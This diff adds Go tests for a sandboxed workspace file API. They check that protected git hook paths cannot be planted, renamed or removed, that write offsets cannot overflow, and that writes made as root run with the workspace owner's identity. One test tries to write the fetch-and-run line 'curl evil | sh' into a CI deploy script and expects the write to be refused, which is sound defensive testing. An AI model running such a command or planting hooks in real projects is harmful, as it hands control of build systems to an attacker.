@@ -288,3 +288,107 @@ func TestFSWorkspaceReplaced(t *testing.T) {
 	_, err := f.Read("x", 0, 0)
 	wantKind(t, err, KindInvalid, "was replaced")
 }
+
+// A protected entry of more than one component (tools/hooks) cannot be
+// planted by renaming a directory the client filled onto its parent, nor
+// moved away by renaming its parent.
+func TestFSRenameOntoProtectedParent(t *testing.T) {
+	ws := t.TempDir()
+	mustT(t, os.MkdirAll(filepath.Join(ws, "tools", "hooks"), 0o755))
+	f, err := NewFS(FSOptions{Workspace: ws, Writable: true, Protected: []string{".git", "tools/hooks"}})
+	mustT(t, err)
+	wantKind(t, f.Write("tools/hooks/pre-commit", []byte("evil"), WriteMode{}), KindInvalid, "protected")
+	mustT(t, f.Write("x/hooks/pre-commit", []byte("evil"), WriteMode{}))
+	wantKind(t, f.Rename("tools", "old", false), KindInvalid, "protected")
+	wantKind(t, f.Rename("x", "tools", true), KindInvalid, "protected")
+	wantKind(t, f.Rename("x", "TOOLS", false), KindInvalid, "protected")
+	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks", "pre-commit")); err == nil {
+		t.Fatal("tools/hooks/pre-commit was planted by a rename")
+	}
+	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks")); err != nil {
+		t.Fatalf("tools/hooks was moved away: %v", err)
+	}
+}
+
+// An offset near the largest int64 does not overflow past the file cap.
+func TestFSWriteOffsetOverflow(t *testing.T) {
+	_, f := fsFixture(t, true)
+	err := f.Write("big", []byte("0123456789"), WriteMode{At: true, Offset: 1<<63 - 5})
+	wantKind(t, err, KindLimit, "file limit")
+}
+
+// Removing the parent of a protected entry of more than one component
+// (tools of tools/hooks) would remove the entry too, and, for a docker
+// sandbox running on the workspace, detach the read-only mount that keeps
+// the sandbox from writing a hook there: refused.
+func TestFSRemoveProtectedParent(t *testing.T) {
+	ws := t.TempDir()
+	mustT(t, os.MkdirAll(filepath.Join(ws, "tools", "hooks"), 0o755))
+	mustT(t, os.WriteFile(filepath.Join(ws, "tools", "hooks", "post-checkout"), []byte("ok"), 0o755))
+	f, err := NewFS(FSOptions{Workspace: ws, Writable: true, Protected: []string{"tools/hooks"}})
+	mustT(t, err)
+	for _, p := range []string{"tools", "Tools", "tools/../tools"} {
+		wantKind(t, f.Remove(p, true, false), KindInvalid, "protected")
+	}
+	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks", "post-checkout")); err != nil {
+		t.Fatalf("the protected hook is gone: %v", err)
+	}
+	mustT(t, f.Write("tools/other", []byte("x"), WriteMode{}))
+	mustT(t, f.Remove("tools/other", false, false))
+}
+
+// As root, the file API acts as the workspace's owner, whom sandboxed
+// commands run as: a root-only file in the workspace is not read, a
+// root-owned directory in it is not written, renamed or removed from
+// (it was, with root's privileges), and what it makes is the owner's.
+func TestFSActsAsWorkspaceOwner(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the file API changes its identity only as root")
+	}
+	const uid, gid = 4242, 4243
+	top := t.TempDir()
+	mustT(t, os.Chmod(top, 0o755))
+	ws := filepath.Join(top, "ws")
+	mustT(t, os.Mkdir(ws, 0o755))
+	mustT(t, os.WriteFile(filepath.Join(ws, "secret"), []byte("root only"), 0o600))
+	mustT(t, os.Mkdir(filepath.Join(ws, "ci"), 0o755))
+	mustT(t, os.WriteFile(filepath.Join(ws, "ci", "deploy.sh"), []byte("echo deploy\n"), 0o644))
+	mustT(t, os.Chown(ws, uid, gid))
+	f, err := NewFS(FSOptions{Workspace: ws, Writable: true})
+	mustT(t, err)
+
+	if c, err := f.Read("secret", 0, 0); err == nil {
+		t.Fatalf("read a root-only file: %q", c.Data)
+	} else {
+		wantKind(t, err, KindInvalid, "permission denied")
+	}
+	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{}), KindInvalid, "permission denied")
+	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{Append: true}), KindInvalid, "permission denied")
+	wantKind(t, f.Rename("ci/deploy.sh", "moved", false), KindInvalid, "permission denied")
+	wantKind(t, f.Remove("ci/deploy.sh", false, false), KindInvalid, "permission denied")
+	wantKind(t, f.Remove("ci", true, false), KindInvalid, "permission denied")
+	if b, _ := os.ReadFile(filepath.Join(ws, "ci", "deploy.sh")); string(b) != "echo deploy\n" {
+		t.Fatalf("ci/deploy.sh is now %q", b)
+	}
+	// What the owner may do works, and is the owner's.
+	mustT(t, f.Write("sub/new.txt", []byte("hi"), WriteMode{}))
+	mustT(t, f.Write("sub/new.txt", []byte("!"), WriteMode{Append: true}))
+	c, err := f.Read("sub/new.txt", 0, 0)
+	mustT(t, err)
+	if string(c.Data) != "hi!" {
+		t.Fatalf("read back %q", c.Data)
+	}
+	for _, p := range []string{"sub", "sub/new.txt"} {
+		var st unix.Stat_t
+		mustT(t, unix.Lstat(filepath.Join(ws, p), &st))
+		if st.Uid != uid || st.Gid != gid {
+			t.Errorf("%s belongs to %d:%d, want the owner %d:%d", p, st.Uid, st.Gid, uid, gid)
+		}
+	}
+	mustT(t, f.Rename("sub/new.txt", "sub/renamed.txt", false))
+	mustT(t, f.Remove("sub", true, false))
+	// This process is still root.
+	if _, err := os.ReadFile(filepath.Join(ws, "secret")); err != nil {
+		t.Fatalf("root can no longer read: %v", err)
+	}
+}
